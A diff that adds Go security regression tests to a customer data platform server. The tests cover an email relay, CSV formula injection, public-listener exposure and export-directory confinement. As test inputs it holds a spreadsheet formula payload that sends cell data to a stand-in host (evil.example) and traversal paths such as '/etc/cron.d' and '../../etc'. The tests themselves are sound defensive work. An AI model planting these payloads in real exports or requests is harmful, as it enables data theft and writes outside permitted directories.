@@ -3,8 +3,13 @@ package server_test
 import (
 	"context"
 	"fmt"
+	"io"
+	"net"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
+	"os"
+	"path/filepath"
 	"strings"
 	"sync/atomic"
 	"testing"
@@ -16,6 +21,7 @@ import (
 	"github.com/kenner-cdp/kenner"
 	"github.com/kenner-cdp/kenner/activation/webhook"
 	"github.com/kenner-cdp/kenner/egress"
+	"github.com/kenner-cdp/kenner/internal/smtptest"
 )
 
 // TestNATSDestinationCannotTouchTheLog: the subjects that purged the event log or wrote a
@@ -248,5 +254,135 @@ func TestComputedPIIMasked(t *testing.T) {
 	}
 	if c["requests"] != float64(1) {
 		t.Errorf("the analyst sees requests = %v, want the count", c["requests"])
+	}
+}
+
+// TestEmailIsNotARelay: an email destination subscribed to events used to mail whatever
+// properties.email said, so anyone with the public write key could send mail through it. Mail
+// goes only to the email identifier of the person the event is about.
+func TestEmailIsNotARelay(t *testing.T) {
+	st := newStack(t)
+	admin := st.tokens[kenner.RoleAdmin]
+	smtp := smtptest.Start(t, smtptest.Options{})
+	host, port, _ := net.SplitHostPort(smtp.Addr)
+	body := fmt.Sprintf(`{"name":"receipts","type":"email","subscribe":{"events":true},
+		"config":{"host":%q,"port":%s,"security":"none","from":"Shop <news@shop.example>","subject":"Thanks","text":"Hello"}}`, host, port)
+	code, d := st.do(t, "POST", "/v1/destinations", admin, body)
+	if code != 201 {
+		t.Fatalf("create = %d %v", code, d)
+	}
+	id := d["id"].(string)
+	// An anonymous visitor names a victim's address; a known customer sends someone else's.
+	st.track(t, `{"batch":[
+		{"type":"track","anonymousId":"a-spam","event":"Contact","properties":{"email":"victim@example.org"},"messageId":"r1"},
+		{"type":"identify","userId":"cust","traits":{"email":"cust@example.com"},"messageId":"r2"},
+		{"type":"track","userId":"cust","event":"Order Completed","properties":{"email":"other@example.org"},"traits":{"email":"other@example.org"},"messageId":"r3"}]}`)
+	waitFor(t, func() bool {
+		_, out := st.do(t, "GET", "/v1/destinations/"+id+"/deliveries?status=delivered", admin, "")
+		ds, _ := out["deliveries"].([]any)
+		return len(ds) == 3
+	})
+	for _, m := range smtp.Mails() {
+		for _, to := range m.To {
+			if to != "cust@example.com" {
+				t.Errorf("mail sent to %s", to)
+			}
+		}
+	}
+	if n := len(smtp.Mails()); n != 2 {
+		t.Errorf("%d mails, want 2 (the customer's identify and order, to their own address)", n)
+	}
+}
+
+// TestMembersCSVAuditedAndSafe: the members CSV (every member's identifiers) is in the audit
+// log, and a user id sent through the public write key cannot become a spreadsheet formula.
+func TestMembersCSVAuditedAndSafe(t *testing.T) {
+	st := newStack(t)
+	mk, admin := st.tokens[kenner.RoleMarketer], st.tokens[kenner.RoleAdmin]
+	_, seg := st.do(t, "POST", "/v1/segments", mk, `{"name":"All","condition":"has(traits.plan) && traits.plan == \"x\""}`)
+	id := seg["id"].(string)
+	st.track(t, `{"batch":[{"type":"identify","userId":"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")","traits":{"plan":"x"},"messageId":"f1"}]}`)
+	var csv string
+	waitFor(t, func() bool {
+		req, _ := http.NewRequest("GET", st.url+"/v1/segments/"+id+"/members?format=csv", nil)
+		req.Header.Set("Authorization", "Bearer "+mk)
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			return false
+		}
+		defer resp.Body.Close()
+		b, _ := io.ReadAll(resp.Body)
+		csv = string(b)
+		return strings.Count(csv, "\n") >= 2
+	})
+	for _, line := range strings.Split(csv, "\n")[1:] {
+		for _, cell := range strings.Split(line, ",") {
+			if c := strings.Trim(cell, `"`); strings.HasPrefix(c, "=") {
+				t.Errorf("cell %q starts a formula", cell)
+			}
+		}
+	}
+	_, audit := st.do(t, "GET", "/v1/audit?action="+url.QueryEscape("GET /v1/segments/{id}/members"), admin, "")
+	if entries, _ := audit["entries"].([]any); len(entries) == 0 {
+		t.Errorf("the members CSV download is not audited: %v", audit)
+	}
+}
+
+// TestPublicListener: with --admin-addr, the public handler answers the tracking API and the
+// health checks, and nothing of the admin API, metrics or OpenAPI.
+func TestPublicListener(t *testing.T) {
+	st := newStack(t)
+	pub := httptest.NewServer(st.api.Public())
+	defer pub.Close()
+	for _, path := range []string{"/metrics", "/openapi.json", "/v1/profiles/user_id:u", "/v1/tokens", "/v1/audit"} {
+		req, _ := http.NewRequest("GET", pub.URL+path, nil)
+		req.Header.Set("Authorization", "Bearer "+st.tokens[kenner.RoleOwner])
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		if resp.StatusCode != 404 {
+			t.Errorf("public GET %s: %d, want 404", path, resp.StatusCode)
+		}
+	}
+	req, _ := http.NewRequest("POST", pub.URL+"/v1/track", strings.NewReader(`{"userId":"u","event":"E"}`))
+	req.SetBasicAuth(st.writeKey, "")
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != 200 {
+		t.Errorf("public POST /v1/track: %d", resp.StatusCode)
+	}
+	resp, err = http.Get(pub.URL + "/readyz")
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != 200 {
+		t.Errorf("public /readyz: %d", resp.StatusCode)
+	}
+}
+
+// TestExportDirConfined: a file export writes only inside the export root (the tests' root
+// is the temporary directory), and saving one creates no directory.
+func TestExportDirConfined(t *testing.T) {
+	st := newStack(t)
+	admin := st.tokens[kenner.RoleAdmin]
+	for _, dir := range []string{"/etc/cron.d", "../../etc", "/"} {
+		body := fmt.Sprintf(`{"name":"x","type":"file","config":{"dir":%q}}`, dir)
+		if code, out := st.do(t, "POST", "/v1/destinations", admin, body); code != 400 {
+			t.Errorf("dir %s: %d %v, want 400", dir, code, out)
+		}
+	}
+	dir := filepath.Join(t.TempDir(), "not-yet")
+	body := fmt.Sprintf(`{"name":"ok","type":"file","config":{"dir":%q}}`, dir)
+	if code, out := st.do(t, "POST", "/v1/destinations", admin, body); code != 201 {
+		t.Fatalf("dir inside the root: %d %v", code, out)
+	}
+	if _, err := os.Stat(dir); !os.IsNotExist(err) {
+		t.Errorf("saving the destination created %s (%v)", dir, err)
 	}
 }
